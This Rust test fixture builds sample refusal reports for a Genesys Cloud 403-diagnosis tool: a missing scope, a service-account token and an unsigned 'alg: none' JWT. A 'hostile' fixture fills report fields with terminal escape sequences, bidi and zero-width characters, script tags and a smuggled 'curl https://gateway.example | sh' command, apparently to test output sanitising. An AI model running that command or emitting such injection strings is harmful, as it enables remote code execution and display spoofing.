//! Reports of a refusal.

use super::*;
use crate::diagnosis::Verdict;

pub(super) fn missing_scope() -> Report {
    let report = blank(
        "mute",
        Verdict::Refused,
        "The token has only `conversations:readonly`; muting needs the scope `conversations`, and this organisation \
         enforces scopes.",
    );
    let report = with(
        report,
        vec![
            good_token(),
            finding(
                "missing-scope",
                Link::Scope,
                Status::Fail,
                Authority::Observed,
                "the token has `conversations:readonly`, which reads but does not write; the operation needs \
             `conversations`, and Genesys Cloud refuses for a scope that is not there",
            )
            .evidence(
                "GET /api/v2/tokens/me",
                "authorizedScope: authorization:readonly, conversations:readonly, user-basic-info",
            )
            .evidence(
                "GET /api/v2/oauth/scopes",
                "403 app.not.authorized.for.scope: App not authorized to use scope [oauth, oauth:readonly]",
            )
            .fix(Fix::all_of(add_scope(CLIENT, "conversations")).standard("RFC 6750 §3.1")),
            control_scope_warning(),
            good_user(),
            finding(
                "missing-permission",
                Link::Permission,
                Status::Fail,
                Authority::Published,
                "the user holds none of the three permissions of which the operation needs one",
            )
            .evidence("GET /api/v2/users/me?expand=authorization", "permissions: routing:queue:view, presence:*:*")
            .fix(Fix::all_of([
                grant(
                    GranteeKind::User,
                    Some(USER),
                    &["conversation:call:record", "conversation:call:wrapup", "conversation:participant:wrapup"],
                ),
                check(),
            ])),
            good_conversation(),
            good_participant(),
            not_asked("mute-not-confirmed", Link::Action, "why403 sent nothing that could take effect"),
        ],
    );
    Report {
        participant: Some(agent(false)),
        action: Some(held("The PATCH was not sent: the preflight found a cause of refusal.")),
        exchanges: vec![
            read("/api/v2/tokens/me", 200, None, "0b2d4f68-1111-4a2c-8e3d-000000000001"),
            read("/api/v2/users/me?expand=authorization", 200, None, "0b2d4f68-1111-4a2c-8e3d-000000000002"),
            read(
                "/api/v2/oauth/scopes",
                403,
                Some("app.not.authorized.for.scope"),
                "0b2d4f68-1111-4a2c-8e3d-000000000003",
            ),
            read(
                &format!("/api/v2/conversations/calls/{CONVERSATION}"),
                200,
                None,
                "0b2d4f68-1111-4a2c-8e3d-000000000004",
            ),
        ],
        ..report
    }
}

pub(super) fn service_account() -> Report {
    let report = blank(
        "mute",
        Verdict::Refused,
        "The token belongs to a service account; this operation mutes the caller's own leg and needs a user.",
    );
    let scope_message = "a client-credentials token carries no scopes; the roles of the client decide";
    let report = with(
        report,
        vec![
            good_token(),
            not_asked("missing-scope", Link::Scope, scope_message),
            finding(
                "service-account",
                Link::Identity,
                Status::Fail,
                Authority::Observed,
                "the token was issued to an OAuth client without a user (client credentials)",
            )
            .evidence("GET /api/v2/tokens/me", "authorizedGrantType: CLIENT-CREDENTIALS")
            .evidence(
                &format!("PATCH /api/v2/conversations/calls/{CONVERSATION}/participants/{PARTICIPANT}"),
                "400 not.a.user: This request requires a user context. Client credentials cannot be used for requests \
             that require a user context.",
            )
            .fix(
                Fix::all_of([
                    Change::new_token(NewToken::AgentSignsIn)
                        .run("why403 login --region us-east-1 --client-id <client-id>".to_owned()),
                    check(),
                ])
                .or([Change::new(
                    Who::Developer,
                    ChangeKind::ActForUser {
                        operation: crate::catalogue::MUTE_ON_BEHALF.into(),
                        user: Named { id: Some(USER.into()), name: None },
                    },
                )
                .run(format!("why403 mute --region us-east-1 --on-behalf-of {USER}"))]),
            ),
            good_permission(),
            good_conversation(),
            good_participant(),
        ],
    );
    Report {
        token: Some(ReportToken {
            grant: Some(GrantKind::ClientCredentials),
            subject: None,
            subject_source: None,
            scopes: None,
            ..opaque()
        }),
        participant: Some(agent(false)),
        action: Some(ReportAction {
            sent: true,
            status: Some(400),
            ..held("Genesys Cloud refused it; the participant is as it was.")
        }),
        exchanges: vec![patch(400, Some("not.a.user"), "0b2d4f68-2222-4a2c-8e3d-000000000001")],
        ..report
    }
}

pub(super) fn offline_jwt() -> Report {
    let summary = "The token is unsecured: its header says `alg: none`, so anyone could have written it.";
    let report = with(
        blank("check", Verdict::Refused, summary),
        vec![
            finding("token-malformed", Link::Token, Status::Pass, Authority::Published, "three base64url parts: a JWT")
                .evidence("the token given", "612 characters, two dots"),
            finding("token-untrusted", Link::Token, Status::Fail, Authority::Published, "the token is not signed")
                .evidence("JOSE header alg", "none")
                .fix(Fix::all_of([sign_in()]).standard("RFC 7519 §6, RFC 8725 §3.2")),
            finding(
                "token-expired",
                Link::Token,
                Status::Fail,
                Authority::Published,
                "the token expired 3 min ago, at 2026-07-14T09:57:00Z (leeway 0 s)",
            )
            .evidence("claim exp (unverified)", "1784023020, which is 2026-07-14T09:57:00Z")
            .fix(Fix::all_of([sign_in(), check()]).standard("RFC 7519 §4.1.4")),
            finding(
                "audience-mismatch",
                Link::Token,
                Status::Fail,
                Authority::Policy,
                "`aud` is `https://api.staging.example`, and `https://api.example` is expected",
            )
            .evidence("claim aud (unverified)", "https://api.staging.example")
            .fix(Fix::all_of([sign_in()]).standard("RFC 7519 §4.1.3")),
            finding("missing-scope", Link::Scope, Status::Pass, Authority::Published, "the token has `conversations`")
                .evidence("claim scope (unverified)", "conversations conversation:participant:control"),
            finding(
                "missing-permission",
                Link::Permission,
                Status::Unknown,
                Authority::Published,
                "the token names no permissions, and Genesys Cloud was not asked; it needs one of three",
            )
            .evidence("claims permissions, authorities", "absent")
            .fix(Fix::all_of([check().note(Note::AskGenesysCloud)])),
            finding(
                "subject-mismatch",
                Link::Identity,
                Status::Fail,
                Authority::Policy,
                "`sub` is not the agent that `--subject` names",
            )
            .evidence("claim sub (unverified)", CLIENT)
            .evidence("--subject", USER)
            .fix(Fix::all_of([Change::new_token(NewToken::AgentSignsIn)]).standard("RFC 7519 §4.1.2")),
            not_asked("conversation-not-found", Link::Conversation, "no conversation was given"),
        ],
    );
    Report {
        token: Some(ReportToken {
            format: TokenFormat::Jwt,
            grant: None,
            subject: Some(CLIENT.into()),
            subject_source: Some(SubjectSource::SubUnverified),
            client_id: None,
            scopes: Some(vec!["conversations".into(), "conversation:participant:control".into()]),
            expires_at: Some("2026-07-14T09:57:00Z".into()),
            signature: SignatureResult::Faulty,
            ..opaque()
        }),
        ..report
    }
}

pub(super) fn hostile() -> Report {
    let bell = "\u{1b}[2J\u{1b}]0;owned\u{7}";
    let report = blank("mute", Verdict::Refused, &format!("Refused with a code that no rule knows{bell}\nallowed"));
    let flood = format!("403: {}", "<script>\u{202e}\u{200b}\"\\\n".repeat(60));
    let report = with(
        report,
        vec![
            good_token(),
            finding(
                "refused-unexplained",
                Link::Action,
                Status::Fail,
                Authority::Observed,
                "refused with `not\u{202e}.known\u{2069}` and \u{9b}31m a\u{2028}line\r\ttoo many",
            )
            .evidence("PATCH /api/v2/\u{1b}[8mhidden", &flood)
            .evidence("header Content-Type", "text/html; charset=\u{feff}会話")
            .fix(
                Fix::all_of([Change::request(
                    RequestPart::Header,
                    None,
                    Some("a`; curl https://gateway.example | sh"),
                )
                .run("why403 check \u{1b}[A".to_owned())])
                .or([Change::ask(Whom::GenesysSupport, Question::WhyRefused, Some("\u{202e}0b2d"))]),
            ),
            finding("unknown-name", Link::Scope, Status::Warn, Authority::Policy, "con\u{200d}versations is no name")
                .evidence("--require-scope", "con\u{200d}versations"),
        ],
    );
    Report {
        participant: Some(ReportParticipant { purpose: Some("agent\u{1b}[0m".into()), ..agent(false) }),
        action: Some(held("Not sent\u{85}.")),
        exchanges: vec![patch(403, Some("not\u{202e}.known"), "\u{1b}[31m0b2d4f68")],
        ..report
    }
}
